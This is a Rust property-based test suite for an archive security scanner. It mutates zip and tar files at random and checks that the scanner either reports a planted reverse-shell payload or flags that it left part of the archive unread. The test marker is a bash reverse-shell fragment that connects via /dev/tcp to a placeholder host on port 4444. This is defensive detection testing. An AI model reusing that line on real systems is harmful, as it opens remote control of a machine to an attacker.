//! What an ordinary reader of archives can read, the scanner has read, or it says that it has not.
// A test may fail by panicking.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

mod packing;

use std::io::{Cursor, Read as _};

use packing::{EVIL, Entry, Raw, deflate, listed, scan, tar, tar_member, zip};
use proptest::prelude::*;
use skillsandbox_scanner::ScanReport;

/// What is done to an archive's bytes: one is set, or some are copied from one place over another, or put in there.
#[derive(Clone, Debug)]
enum Change {
    Set(usize, u8),
    Copy(usize, usize, usize),
    Insert(usize, usize, usize),
    Remove(usize, usize),
}

fn change() -> impl Strategy<Value = Change> {
    let at = || any::<usize>();
    // Small numbers make small sizes, lengths and offsets.
    let value = prop_oneof![any::<u8>(), 0..9_u8, Just(0xff)];
    prop_oneof![
        4 => (at(), value).prop_map(|(at, value)| Change::Set(at, value)),
        1 => (at(), at(), 1..120_usize).prop_map(|(from, to, length)| Change::Copy(from, to, length)),
        1 => (at(), at(), 1..300_usize).prop_map(|(from, to, length)| Change::Insert(from, to, length)),
        1 => (at(), 1..60_usize).prop_map(|(at, length)| Change::Remove(at, length)),
    ]
}

fn apply(mut bytes: Vec<u8>, changes: &[Change]) -> Vec<u8> {
    for change in changes {
        let size = bytes.len().max(1);
        let piece = |bytes: &[u8], from: usize, length: usize| {
            bytes[from % size..(from % size + length).min(bytes.len())].to_vec()
        };
        match *change {
            Change::Set(at, value) => bytes[at % size] = value,
            Change::Copy(from, to, length) => {
                let piece = piece(&bytes, from, length);
                let to = to % size;
                let end = (to + piece.len()).min(bytes.len());
                bytes.splice(to..end, piece);
            }
            Change::Insert(from, to, length) => {
                let piece = piece(&bytes, from, length);
                bytes.splice(to % size..to % size, piece);
            }
            Change::Remove(at, length) => {
                let end = (at % size + length).min(bytes.len());
                bytes.drain(at % size..end);
            }
        }
        if bytes.is_empty() {
            break;
        }
    }
    bytes
}

const MARK: &[u8] = b"/dev/tcp/collector.invalid/4444 0>&1";

fn holds_mark(bytes: &[u8]) -> bool {
    bytes.windows(MARK.len()).any(|window| window == MARK)
}

fn zip_reader_finds_it(bytes: &[u8]) -> bool {
    let Ok(mut archive) = zip::ZipArchive::new(Cursor::new(bytes)) else { return false };
    (0..archive.len().min(50)).any(|at| {
        let mut content = Vec::new();
        let Ok(member) = archive.by_index(at) else { return false };
        let _ = member.take(1 << 20).read_to_end(&mut content);
        holds_mark(&content)
    })
}

fn tar_reader_finds_it(bytes: &[u8]) -> bool {
    let mut archive = tar::Archive::new(bytes);
    let Ok(entries) = archive.entries() else { return false };
    entries.take(50).map_while(Result::ok).any(|entry| {
        let mut content = Vec::new();
        let _ = entry.take(1 << 20).read_to_end(&mut content);
        holds_mark(&content)
    })
}

fn is_told(report: &ScanReport) -> bool {
    !report.unread.is_empty()
        || report.findings.iter().any(|finding| finding.rule == "CHECK-08/reverse-shell")
}

/// A zip in which much is in doubt already: streamed sizes, a stored member, a deflated one, a comment.
fn doubtful_zip() -> Vec<u8> {
    let evil = EVIL.as_bytes();
    let (text, script) = (Entry::stored("a.txt", b"hello"), Entry::deflated("run.sh", evil));
    let streamed = Entry { flags: 8, crc: 0, packed: 0, size: 0, ..script.clone() };
    let mut raw = Raw::default();
    raw.add(&text, &text, b"hello").add(&streamed, &Entry { flags: 8, ..script }, &deflate(evil));
    raw.comment = b"a comment".to_vec();
    raw.finish()
}

#[test]
fn the_readers_find_it_where_nothing_is_changed() {
    assert!(zip_reader_finds_it(&zip(&[("run.sh", EVIL)])) && zip_reader_finds_it(&doubtful_zip()));
    assert!(tar_reader_finds_it(&tar(&[("run.sh", EVIL)])));
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn what_the_zip_crate_reads_is_read(stored in any::<bool>(), changes in prop::collection::vec(change(), 0..6)) {
        let bytes = if stored { doubtful_zip() } else { zip(&[("a.txt", "hello"), ("run.sh", EVIL), ("b.txt", "bye")]) };
        let bytes = apply(bytes, &changes);
        if zip_reader_finds_it(&bytes) {
            let report = scan([("p.zip", bytes)]);
            prop_assert!(is_told(&report), "{}", listed(&report));
        }
    }

    #[test]
    fn what_the_tar_crate_reads_is_read(pax in any::<bool>(), changes in prop::collection::vec(change(), 0..6)) {
        let mut bytes = tar(&[("a.txt", "hello"), ("run.sh", EVIL), ("b.txt", "bye")]);
        if pax {
            bytes = [tar_member("pax", b'x', b"16 path=run.zsh\n"), bytes].concat();
        }
        let bytes = apply(bytes, &changes);
        if tar_reader_finds_it(&bytes) {
            let report = scan([("p.tar", bytes)]);
            prop_assert!(is_told(&report), "{}", listed(&report));
        }
    }
}
